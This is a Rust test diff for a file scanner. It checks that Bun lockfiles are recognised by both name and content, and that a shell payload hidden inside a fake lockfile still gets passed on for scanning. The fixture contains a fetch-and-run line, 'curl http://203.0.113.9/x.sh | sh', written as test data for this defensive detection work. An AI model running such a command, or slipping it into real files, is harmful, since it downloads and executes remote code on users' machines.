@@ -209,6 +209,7 @@ fn an_honest_binary_is_no_reason_for_doubt() {
         ("a.sqlite", b"SQLite format 3\0"),
         ("a.png", b"\x89PNG\r\n\x1a\n"),
         ("a.bin", b"\0\0\x80\x3f"),
+        ("x/bun.lockb", b"#!/usr/bin/env bun\nbun-lockfile-format-v0\n\x02\0\0\0"),
         ("a.safetensors", b"\x08\0\0\0\0\0\0\0{}      "),
         ("a.onnx", b"\x08\x08\x12\x07pytorch"),
         ("a.npy", b"\x93NUMPY\x01\0"),
@@ -329,6 +330,20 @@ proptest! {
             }
         }
     }
+}
+
+#[test]
+fn a_lock_file_of_bun_is_one_by_name_and_content() {
+    let head = b"#!/usr/bin/env bun\nbun-lockfile-format-v0\n\x02\0\0\0".as_slice();
+    let noise: Vec<u8> = (0..=u8::MAX).map(|n| n.wrapping_mul(37) | 0x80).collect();
+    for (name, head) in [("bun.lockb.sh", head), ("run", head), ("bun.lockb", b"#!/bin/sh\n")] {
+        let sifted = sift_file(Provider::Semgrep, name, &[head, &noise, b"\0\x01"].concat());
+        assert_eq!(sifted.unscanned.len(), 1, "{name}");
+    }
+    let payload = [head, &noise, b"\ncurl http://203.0.113.9/x.sh | sh\n"].concat();
+    let sifted = sift_file(Provider::Semgrep, "bun.lockb", &payload);
+    let reads = |piece: &Piece| piece.content.windows(8).any(|at| at == b"x.sh | s");
+    assert!(sifted.pieces.iter().any(reads) && sifted.unscanned.is_empty());
 }
 
 #[test]
